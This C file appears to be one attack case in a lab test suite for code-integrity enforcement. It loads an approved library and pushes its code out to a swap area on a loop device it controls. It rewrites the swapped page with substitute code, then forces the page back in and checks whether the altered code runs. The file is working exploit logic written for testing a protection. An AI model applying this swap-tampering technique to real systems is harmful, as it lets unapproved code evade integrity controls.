// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. Has approved code swapped out to a disk whose content it may change, and changes it there.
 * Source: root-paths, "swap contents rewrite: no hook". Control: the changed code runs.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/loop.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/swap.h>
#include <sys/sysinfo.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "library.h"

enum { PAGE = 4096, PAGES = 1024 };

static const char image[] = "/tmp/lab-swapped-code";

/* The header of a swap area; what mkswap would write. */
static int make_area(void)
{
	static char page[PAGE];
	int fd = open(image, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	uint32_t *words = (uint32_t *)(page + 1024);

	words[0] = 1;
	words[1] = PAGES - 1;
	memcpy(page + PAGE - 10, "SWAPSPACE2", 10);
	if (fd < 0 || ftruncate(fd, PAGES * PAGE) || write(fd, page, PAGE) != PAGE)
		no_effect(errno);
	return fd;
}

/* Opened for writing once, the library is on a tmpfs, below the overlay. */
static void move_to_memory(const char *path)
{
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd < 0)
		no_effect(errno);
	close(fd);
}

/* It leaves memory when memory is needed, at the latest. */
static _Noreturn void need_memory(const void *page)
{
	enum { STEP = 8 << 20 };
	struct sysinfo info;
	unsigned char here = 1;

	sysinfo(&info);
	for (unsigned long taken = 0; taken < info.totalram; taken += STEP)
		if (mincore((void *)page, PAGE, &here) || !(here & 1) ||
		    mmap(NULL, STEP, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0) == MAP_FAILED)
			break;
	_exit(0);
}

/* In a child: if there is not enough, that is who is killed. */
static void wait_until_gone(const void *page)
{
	pid_t pid = fork();

	if (pid == 0)
		need_memory(page);
	waitpid(pid, NULL, 0);
}

/* The function begins its page: common/helper_library.c. */
static bool change(int area, const unsigned char *code)
{
	static char page[PAGE];
	bool changed = false;

	for (off_t at = PAGE; pread(area, page, PAGE, at) == PAGE; at += PAGE)
		if (memcmp(page, code, 256) == 0) {
			memcpy(page, code_1337, sizeof(code_1337));
			changed |= pwrite(area, page, PAGE, at) == PAGE;
		}
	return changed;
}

void attack(void)
{
	unsigned char code[256];
	int area = make_area(), disk;
	answer_function *function;
	bool done;

	disk = open("/dev/loop3", O_RDWR | O_CLOEXEC);
	if (disk < 0 || ioctl(disk, LOOP_SET_FD, area))
		no_effect(errno);
	move_to_memory(lab_path("open/libpaged.so"));
	function = library_load("open/libpaged.so");
	if (!function || function() != 42)
		no_effect(errno);
	memcpy(code, (const void *)function, sizeof(code));
	if (swapon("/dev/loop3", 0))
		no_effect(errno);
	madvise((void *)function, PAGE, MADV_PAGEOUT);
	fsync(disk);
	if (!change(area, code))
		broken("the code was not swapped out");
	fsync(area);
	wait_until_gone((const void *)function);
	done = function() == CODE_ANSWER;
	swapoff("/dev/loop3");
	ioctl(disk, LOOP_CLR_FD, 0);
	if (done)
		effect();
	no_effect(errno);
}
